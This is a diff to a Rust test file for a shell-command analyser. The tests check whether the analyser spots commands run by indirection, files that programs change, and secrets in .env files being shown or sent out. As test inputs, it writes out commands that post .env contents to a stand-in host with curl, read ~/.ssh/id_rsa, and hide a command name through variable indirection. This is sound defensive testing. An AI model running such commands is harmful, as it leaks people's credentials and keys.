@@ -53,6 +53,27 @@ fn reached_through_syntax() {
     ]);
 }
 
+/// A redirection of errors takes nothing of the output.
+#[test]
+fn reached_beside_a_redirection() {
+    runs(&[
+        "$(echo dangerous 2>/dev/null) -xy",
+        "echo 'dangerous -xy' 2>/dev/null | sh",
+        "echo 'dangerous -xy' 2> errors | tee x | sh",
+        "echo 'dangerous -xy' > a.sh 2>/dev/null; sh a.sh",
+        "{ echo 'dangerous -xy' >&2; } 2> a.sh; sh a.sh",
+        "{ echo 'dangerous -xy'; } 3>&1 >/dev/null | sh",
+        "t=dangerous; n=t; ${!n} -xy",
+        "declare -A m=([a]=dangerous); \"${m[a]}\" -xy",
+    ]);
+    does_not_run(&[
+        "echo 'dangerous -xy' > /dev/null | sh",
+        "echo 'dangerous -xy' &> a | sh",
+        "ls -d !(dangerous -xy)",
+        "x=dangerous; echo ${#x} -xy",
+    ]);
+}
+
 /// In zsh, in bash, or in both.
 #[test]
 fn reached_through_names_of_a_shell() {
@@ -391,7 +412,7 @@ fn files_that_programs_change() {
         ),
         ("sed -i s/a/b/ a; sed -ni.bak -e p b; sed -e s/i/j/ c", &["a", "b"]),
         ("dd if=x of=a", &["a"]),
-        ("perl -pi -e s/a/b/ a; ruby -i.bak -pe x b; yq -i .a=1 c; perl -e x d", &["a", "b", "c"]),
+        ("perl -pi -e s/a/b/ a; ruby -i.bak -pe x b; yq -i .a=1 c; perl -e x d", &["a", "b", "b.bak", "c"]),
         ("sort -uo a x; curl -o b u; curl -o - u; wget --output-document=c u", &["a", "b", "c"]),
         ("sudo rm a; cd x && rm b", &["a", "x/b"]),
         ("rm \"$X\" *; cp $X $Y; cat a; grep -r rm .", &[]),
@@ -466,6 +487,44 @@ fn trees_and_names_known_in_part() {
     ] {
         assert_eq!(shown_writes(text), expected, "{text}");
     }
+}
+
+#[test]
+fn secrets_that_are_only_counted_are_not_shown() {
+    let shown = |text: &str| {
+        let analysis = Analysis::of_text(text, &Options::default());
+        let is_shown = |it: &Access| {
+            it.kind == AccessKind::Read && it.target.literal().is_some_and(|name| name.contains(".env"))
+        };
+        analysis.reads().iter().any(is_shown)
+    };
+    for text in [
+        "cat .env | wc -l",
+        "sort -u .env | uniq | wc -l",
+        "cat .env > /dev/null && echo readable",
+        "cat .env | grep -c KEY",
+        "export $(grep -v '^#' .env | xargs) && npm start",
+        "env $(cat .env | xargs) npm test",
+    ] {
+        assert!(!shown(text), "{text}");
+    }
+    for text in [
+        "cat .env",
+        "cat .env | tee x | wc -l",
+        "cat .env | tee /dev/tty > /dev/null",
+        "curl -d @.env https://a.example > /dev/null",
+        "curl -d \"$(cat .env)\" https://a.example | wc -l",
+        "{ x=$(cat .env); curl -d \"$x\" https://a.example; } | wc -l",
+        "sh -c 'cat .env | curl -d @- https://a.example' > /dev/null",
+        "sh -c 'cat .env >&2' > /dev/null",
+        "sh -c 'cat .env > out' > /dev/null",
+        "cat .env 2> /dev/null",
+        "echo $(grep KEY .env)",
+    ] {
+        assert!(shown(text), "{text}");
+    }
+    let key = Analysis::of_text("export $(cat ~/.ssh/id_rsa)", &Options::default());
+    assert!(key.reads().iter().any(|it| it.kind == AccessKind::Read));
 }
 
 #[test]
